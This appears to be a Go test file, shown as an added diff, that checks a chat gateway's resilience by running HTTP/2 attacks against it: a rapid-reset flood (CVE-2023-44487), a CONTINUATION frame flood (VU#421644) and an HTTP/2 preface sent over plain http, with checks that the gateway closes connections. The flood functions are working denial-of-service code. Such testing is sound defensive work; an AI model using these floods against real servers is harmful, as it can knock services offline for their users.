@@ -1,0 +1,126 @@
+//go:build linux
+
+package hostiletest_test
+
+import (
+	"bytes"
+	"crypto/tls"
+	"io"
+	"net"
+	"testing"
+	"time"
+
+	"golang.org/x/net/http2"
+	"golang.org/x/net/http2/hpack"
+)
+
+func http2Attacks() []attack {
+	return []attack{
+		{name: "HTTP/2 rapid reset", secure: true, hostile: rapidReset},
+		{name: "HTTP/2 continuation flood", secure: true, hostile: continuations, check: func(t *testing.T, r *result) {
+			if *longFlag && r.counted["closed by the gateway"] == 0 {
+				t.Error("no connection was closed by the gateway")
+			}
+		}},
+		{name: "HTTP/2 over plain http", hostile: func(a *attacker) {
+			a.many(4, 20*time.Millisecond, func(int) {
+				conn := a.dial()
+				if conn == nil {
+					return
+				}
+				defer conn.Close()
+				_ = conn.SetDeadline(time.Now().Add(patience))
+				_, _ = io.WriteString(conn, http2.ClientPreface+"\x00\x00\x00\x04\x00\x00\x00\x00\x00")
+				a.countAnswer(conn)
+				if rest, err := io.ReadAll(conn); err != nil && len(rest) > 0 {
+					a.wrong("the connection stays open: %v", err)
+				}
+			})
+		}, check: only("421", "closed")},
+	}
+}
+
+// frames is a connection over which frames go, with what reads the answers; nil for none.
+func (a *attacker) frames() (net.Conn, *http2.Framer) {
+	config := a.roots.Clone()
+	config.NextProtos = []string{"h2"}
+	conn, err := tls.DialWithDialer(&net.Dialer{Timeout: patience}, "tcp4", a.address, config)
+	if err != nil {
+		a.count("not connected")
+		return nil, nil
+	}
+	_ = conn.SetDeadline(time.Now().Add(patience))
+	_, _ = io.WriteString(conn, http2.ClientPreface) // what is wrong with it shows in the next frame
+	f := http2.NewFramer(conn, conn)
+	_ = f.WriteSettings()
+	a.count("connections")
+	return conn, f
+}
+
+// fields are the head of a request for chat.
+func (a *attacker) fields() []byte {
+	var b bytes.Buffer
+	e := hpack.NewEncoder(&b)
+	for _, f := range [][2]string{{":method", "POST"}, {":scheme", "https"}, {":authority", a.address}, {":path", chatPath}, {"authorization", "Bearer " + a.key}} {
+		_ = e.WriteField(hpack.HeaderField{Name: f[0], Value: f[1], Sensitive: true}) // into memory
+	}
+	return b.Bytes()
+}
+
+// rapidReset opens streams and resets them at once (CVE-2023-44487), up to 2,000 a second from each
+// client, on a new connection where the gateway has closed one.
+func rapidReset(a *attacker) {
+	fields := a.fields()
+	for a.pause(20 * time.Millisecond) {
+		conn, f := a.frames()
+		if conn == nil {
+			return
+		}
+		read := make(chan struct{})
+		go func() {
+			defer close(read)
+			_, _ = io.Copy(io.Discard, conn)
+		}()
+		err := error(nil)
+		for id := uint32(1); err == nil && a.pause(10*time.Millisecond); {
+			for range 20 {
+				err = f.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: fields, EndHeaders: true})
+				if err == nil {
+					err = f.WriteRSTStream(id, http2.ErrCodeCancel)
+				}
+				a.count("streams")
+				id += 2
+			}
+		}
+		if err != nil {
+			a.count("closed by the gateway")
+		}
+		_ = conn.Close()
+		<-read
+	}
+}
+
+// continuations never end the head of a request (VU#421644).
+func continuations(a *attacker) {
+	for a.pause(20 * time.Millisecond) {
+		conn, f := a.frames()
+		if conn == nil {
+			return
+		}
+		read := make(chan struct{})
+		go func() {
+			defer close(read)
+			_, _ = io.Copy(io.Discard, conn)
+		}()
+		err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: a.fields()})
+		filler := append([]byte{0x00, 0x01, 'x', 0x7f, 0x81, 0x7e}, bytes.Repeat([]byte("x"), 16384)...) // a header of 16 KiB that is not indexed (RFC 7541, section 6.2.2)
+		for err == nil && a.pause(time.Millisecond) {
+			err = f.WriteContinuation(1, false, filler[:16384])
+		}
+		if a.ctx.Err() == nil {
+			a.count("closed by the gateway")
+		}
+		_ = conn.Close()
+		<-read
+	}
+}
